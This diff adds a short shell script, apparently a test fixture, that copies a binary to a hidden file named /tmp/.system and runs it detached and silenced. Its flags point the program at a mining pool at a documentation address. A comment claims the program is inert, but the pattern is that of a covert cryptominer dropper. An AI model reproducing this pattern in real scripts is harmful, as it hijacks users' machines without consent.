@@ -1,0 +1,4 @@
+#!/bin/sh
+# Inert: the program below ignores its arguments and sleeps.
+cp /usr/local/bin/inert /tmp/.system
+setsid /tmp/.system -o 203.0.113.80:3333 --donate-level 1 >/dev/null 2>&1 </dev/null &
